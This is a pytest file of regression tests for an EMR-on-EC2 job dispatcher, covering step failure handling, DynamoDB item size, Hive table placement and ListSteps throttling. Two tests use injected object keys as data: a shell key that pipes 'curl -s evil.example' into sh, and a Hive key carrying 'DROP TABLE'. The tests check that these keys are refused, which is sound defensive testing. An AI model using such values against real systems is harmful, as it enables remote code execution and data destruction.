"""Defects the breaker found in ordered steps on EMR on EC2 (issue 17 item 1), each a short failing test marked
xfail(strict=True) until fixed: /work/wt/_prompts/s3/findings-steps.md lists them with severity and a fix."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

import builders
from emr_dispatch.engines.emr_ec2.events import parse_event
from emr_dispatch.engines.emr_ec2.steps import interpret_steps
from emr_dispatch.errors import EngineError, RoutesError
from emr_dispatch.job_steps import initial_steps
from emr_dispatch.jobs import JobState
from emr_dispatch.routes import RoutesFile, load_routes_file, parse_routes
from sample_events import load_event

LANDING = "landing"
EC2 = {"release_label": "emr-7.5.0", "instances": {"primary": {"instance_type": "m7g.xlarge"}}}
DYNAMODB_ITEM_MAX = 400 * 1024
"""DynamoDB's item size limit, attribute names and values together (DynamoDB Developer Guide, quotas)."""


def _routes(steps: list[dict[str, Any]], **ec2: Any) -> RoutesFile:
    route = {"name": "steps", "match": {"bucket": LANDING}, "engine": "emr-ec2", "emr_ec2": {**EC2, **ec2}}
    return parse_routes({"version": 1, "routes": [{**route, "steps": steps}]})


def test_a_lone_continue_step_that_failed_does_not_succeed_the_job_on_the_clusters_end() -> None:
    # Given a route of ONE step with action_on_failure continue (step_concurrency above 1 even forces continue), its
    # step FAILED; EMR then ends the cluster TERMINATED / ALL_STEPS_COMPLETED ("Steps completed with errors")
    job = builders.job(route_name="steps")
    job.engine_id = "j-2AXXXXXXGAPLF"
    job.steps = initial_steps(("emr-dispatch-only",))
    listed = [{"Id": "s-1", "Name": "emr-dispatch-only", "ActionOnFailure": "CONTINUE", "Status": {"State": "FAILED"}}]
    cluster_end = parse_event(load_event("emr-cluster-terminated-completed.json"))
    assert cluster_end is not None
    # When the cluster's event arrives before (or without) the step's FAILED event
    update = interpret_steps(cluster_end, job, lambda cluster_id: listed)
    # Then the job is not SUCCEEDED: its only step failed
    assert update is not None
    assert update.state is JobState.FAILED


def test_a_key_inside_a_bash_c_script_is_refused_or_the_route_is() -> None:
    # Given a command step whose program is a shell running a script that holds the key
    steps = [{"name": "copy", "command": {"command": ["bash", "-c", "aws s3 cp s3://{bucket}/{key} /tmp/in"]}}]
    try:
        routes = _routes(steps)
    except RoutesError:
        return  # the route is refused at load: fine
    # When a key with shell syntax arrives
    decision = routes.decide(LANDING, "raw/x;curl -s evil.example|sh;.csv", "work-bucket")
    # Then it is refused (a key is only ever data), never run as shell code on the cluster
    assert decision.route is None


def test_a_key_inside_a_hive_e_query_is_refused_or_the_route_is() -> None:
    # Given a command step running Hive's CLI on a query that holds the key (bypassing the hive step's key rules)
    steps = [{"name": "q", "command": {"command": ["hive", "-e", "SELECT * FROM t WHERE f = '{key}'"]}}]
    try:
        routes = _routes(steps)
    except RoutesError:
        return
    # When a key with a quote and a statement arrives
    decision = routes.decide(LANDING, "raw/x';DROP TABLE t;--.csv", "work-bucket")
    # Then it is refused
    assert decision.route is None


def test_a_route_whose_snapshot_cannot_fit_a_job_item_is_refused_at_load() -> None:
    # Given 60 steps (EMR allows 256), each within EMR's 10,240 characters per HadoopJarStep
    steps = [
        {
            "name": f"s{index}",
            "action_on_failure": "continue",
            "spark": {"entry_point": "s3://{work_bucket}/jobs/x.py", "arguments": ["a" * 9000]},
        }
        for index in range(60)
    ]
    # When the routes file is loaded
    try:
        routes = _routes(steps, step_concurrency=2)
    except RoutesError:
        return  # refused at load: fine
    # Then every job of it could still be written: its route snapshot (kept on each job item) fits in one item
    assert len(routes.routes[0].snapshot().encode()) < DYNAMODB_ITEM_MAX


def test_a_cluster_end_with_a_step_not_yet_ended_in_list_steps_does_not_succeed_the_job() -> None:
    # Given a job of three steps; ListSteps (read when the cluster's end arrives) still shows the last one RUNNING
    # (a lagging list) and the second one FAILED with CONTINUE
    names = ("emr-dispatch-clean", "emr-dispatch-load", "emr-dispatch-publish")
    job = builders.job(route_name="steps")
    job.engine_id = "j-2AXXXXXXGAPLF"
    job.steps = initial_steps(names)
    states = ("COMPLETED", "FAILED", "RUNNING")
    listed = [
        {"Id": f"s-{i}", "Name": name, "ActionOnFailure": "CONTINUE", "Status": {"State": state}}
        for i, (name, state) in enumerate(zip(names, states, strict=True))
    ]
    cluster_end = parse_event(load_event("emr-cluster-terminated-completed.json"))
    assert cluster_end is not None
    # When the cluster's TERMINATED / ALL_STEPS_COMPLETED event is interpreted
    update = interpret_steps(cluster_end, job, lambda cluster_id: listed)
    # Then the job is not SUCCEEDED on a list that decides nothing (a step already FAILED): undecided (None, the
    # sweeper looks again) or FAILED naming the step
    assert update is None or update.state is JobState.FAILED


def test_the_shipped_hive_step_loads_into_storage_that_outlives_the_cluster() -> None:
    # Given the orders-warehouse route (config/routes.yaml) and its Hive script; EMR keeps Hive's metastore in a
    # MySQL database on the primary node ("When a cluster terminates ... local data is lost", EMR Release Guide,
    # "Configuring an external metastore for Hive") and a managed table's data under the HDFS warehouse
    root = Path(__file__).resolve().parents[2]
    script = (root / "jobs" / "load_orders.q").read_text()
    route = next(r for r in load_routes_file(root / "config" / "routes.yaml").routes if r.name == "orders-warehouse")
    ec2: Any = route.engine_settings()
    warehouse_outside = any(item.classification in ("hive-site", "hive") for item in ec2.configurations) or any(
        step.hive and "hive.metastore.warehouse.dir" in step.hive.hiveconf for step in route.run_steps()
    )
    # Then the table it loads is external (LOCATION in S3) or the route moves the metastore/warehouse off the cluster
    managed_orders = re.search(r"CREATE (?:EXTERNAL )?TABLE IF NOT EXISTS orders \([^;]*?;", script, re.DOTALL)
    assert warehouse_outside or (managed_orders is not None and "LOCATION" in managed_orders.group())


def test_the_shipped_hive_steps_tables_are_external_in_s3_and_its_staging_table_is_the_jobs_own() -> None:
    # Given the orders-warehouse route's Hive script and the variables the route gives it
    root = Path(__file__).resolve().parents[2]
    script = (root / "jobs" / "load_orders.q").read_text()
    route = next(r for r in load_routes_file(root / "config" / "routes.yaml").routes if r.name == "orders-warehouse")
    load = next(step for step in route.run_steps() if step.hive is not None)
    assert load.hive is not None
    # Then the warehouse table is EXTERNAL at a location in S3 the route gives (outliving the cluster), shared by
    # every job (no job-derived placeholder in it), and under the route's output (never an arrival of any route)
    assert re.search(r"CREATE EXTERNAL TABLE IF NOT EXISTS orders \([^;]*LOCATION '\$\{WAREHOUSE\}orders/';", script)
    warehouse = load.hive.variables["WAREHOUSE"]
    assert warehouse.startswith("s3://{work_bucket}/output/{route}/")
    assert "{job_id}" not in warehouse
    assert "{key}" not in warehouse
    # And the staging table over the job's cleaned folder is session-only (TEMPORARY): with a metastore that
    # outlives the job, a later job never reads an earlier job's folder through it
    assert re.search(r"CREATE TEMPORARY EXTERNAL TABLE orders_clean_staging \(", script)
    assert "IF NOT EXISTS orders_clean_staging" not in script


def test_a_throttled_list_steps_at_a_clusters_end_leaves_the_job_to_the_sweeper() -> None:
    # Given a one-step job whose cluster ended ALL_STEPS_COMPLETED before its step's event, while ListSteps is
    # throttled (a burst of clusters ending at once: ListSteps allows a burst of 10, then 0.5/s)
    job = builders.job(route_name="steps")
    job.engine_id = "j-2AXXXXXXGAPLF"
    job.steps = initial_steps(("emr-dispatch-only",))
    cluster_end = parse_event(load_event("emr-cluster-terminated-completed.json"))
    assert cluster_end is not None

    def throttled(cluster_id: str) -> list[dict[str, Any]]:
        raise EngineError(f"ListSteps {cluster_id} failed: Rate exceeded", "ThrottlingException")

    # When the cluster's event is interpreted
    update = interpret_steps(cluster_end, job, throttled)
    # Then nothing is decided (never SUCCEEDED on doubt, the event's delivery not failed): the sweeper's paced
    # describe decides later
    assert update is None

    # And any other ListSteps error still fails the event's delivery (retried, never swallowed)
    def denied(cluster_id: str) -> list[dict[str, Any]]:
        raise EngineError(f"ListSteps {cluster_id} failed: AccessDenied", "AccessDeniedException")

    with pytest.raises(EngineError):
        interpret_steps(cluster_end, job, denied)
